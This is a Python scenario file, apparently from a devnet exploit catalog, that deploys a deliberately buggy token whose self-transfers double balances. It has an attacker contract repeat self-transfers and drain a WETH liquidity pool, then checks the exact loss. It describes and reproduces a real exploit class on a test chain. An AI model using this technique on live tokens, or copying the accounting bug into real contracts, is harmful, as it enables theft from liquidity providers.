"""Scenario `self-transfer-accounting`: a token whose self-transfers credit the amount twice.

ReflexToken's `_transfer` reads the sender's and the receiver's balances before writing either,
so `transfer(self, x)` sets the balance to `balance - x` and then overwrites it with `balance + x`:
x appears from nothing, with nothing but an ordinary `Transfer(a, a, x)` event to show for it (the
bug behind several 2022-2023 BSC token exploits). REFLEX trades against WETH on a pair created
through the shared router; the deployer provides the liquidity and frank and grace trade honestly.
In one tx mallory's SelfTransferExploiter buys REFLEX for 1 WETH, transfers its whole balance to
itself 20 times (doubling it each time) and sells the inflated balance into the pair, taking
almost all of its WETH, which it sends to mallory.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import Contract, deploy
from timemachine.catalog.scenarios.markets import add_liquidity, markets, swap
from timemachine.catalog.scenarios.world import World
from timemachine.errors import DevnetBuildError

ATTACKER = "mallory"
REFLEX = 10**18
"""One REFLEX (18 decimals)."""
SUPPLY = 10_000_000 * REFLEX
POOL_REFLEX = 1_000_000 * REFLEX
POOL_WETH = 40 * ETHER
SEED = 1 * ETHER
"""WETH the exploiter spends on its first buy."""
DOUBLINGS = 20
EXPLOIT_GAS = 1_500_000


def amount_out(amount_in: int, reserve_in: int, reserve_out: int) -> int:
    """The V2 pair's output for `amount_in` (0.3% fee), as SwapRouter.getAmountOut computes it."""
    with_fee = amount_in * 997
    return with_fee * reserve_out // (reserve_in * 1000 + with_fee)


async def _reserves(pair: Contract, reflex: str, weth: str) -> tuple[int, int]:
    """(REFLEX reserve, WETH reserve) of the pair."""
    reserve0, reserve1, _ = await pair.call("getReserves")
    return (reserve0, reserve1) if int(reflex, 16) < int(weth, 16) else (reserve1, reserve0)


async def stage(world: World) -> ScenarioRecord:
    """List REFLEX against WETH, trade honestly, then exploit; verify the pair's exact loss."""
    chain, weth, a = world.chain, world.weth, actor_address
    market = await markets(world)
    router, factory = market.router, market.factory
    reflex = await deploy(chain, "deployer", "ReflexToken", "Reflex", "REFLEX", SUPPLY)
    await chain.mine()

    await weth.send("deployer", "deposit", value=POOL_WETH)
    await reflex.send("deployer", "approve", router.address, 2**256 - 1)
    await weth.send("deployer", "approve", router.address, 2**256 - 1)
    await add_liquidity(
        router, "deployer", (reflex.address, weth.address), (POOL_REFLEX, POOL_WETH)
    )
    await reflex.send("deployer", "transfer", a("grace"), 20_000 * REFLEX)
    await weth.send("frank", "deposit", value=4 * ETHER)
    await weth.send("frank", "approve", router.address, 2**256 - 1)
    await reflex.send("grace", "approve", router.address, 2**256 - 1)
    await chain.mine()

    pair = Contract.at(
        chain,
        await factory.call("getPair", reflex.address, weth.address),
        "SwapPair",
        "SwapPair REFLEX/WETH",
    )
    for trader, path, amount in (
        ("frank", [weth.address, reflex.address], 2 * ETHER),
        ("grace", [reflex.address, weth.address], 10_000 * REFLEX),
    ):
        await swap(router, trader, amount, path)
    await chain.mine()

    exploiter = await deploy(chain, ATTACKER, "SelfTransferExploiter")
    await weth.send(ATTACKER, "deposit", value=SEED)
    await weth.send(ATTACKER, "approve", exploiter.address, SEED)
    await chain.mine()

    pool_reflex, pool_weth = await _reserves(pair, reflex.address, weth.address)
    bought = amount_out(SEED, pool_weth, pool_reflex)
    sold = bought * 2**DOUBLINGS
    drained = amount_out(sold, pool_reflex - bought, pool_weth + SEED)
    outcome = await measure_exploit(
        chain,
        lambda: exploiter.send(
            ATTACKER,
            "attack",
            router.address,
            reflex.address,
            weth.address,
            SEED,
            DOUBLINGS,
            gas=EXPLOIT_GAS,
        ),
        attackers=[a(ATTACKER), exploiter.address],
        victims=[pair.address],
        tokens=[weth.address, reflex.address],
        expected_losses={weth.address.lower(): drained - SEED},
        what="self-transfer accounting",
    )
    expected_profit = {"ETH": -outcome.fee, weth.address.lower(): drained - SEED}
    if outcome.profit != expected_profit:
        raise DevnetBuildError(
            f"self-transfer accounting {outcome.tx}: attacker side gained {outcome.profit}, "
            f"expected {expected_profit}"
        )
    return SCENARIO.exploited(
        outcome, attacker=a(ATTACKER), contracts=[exploiter.address], victims=[pair.address]
    )


SCENARIO = declared("self-transfer-accounting", stage)
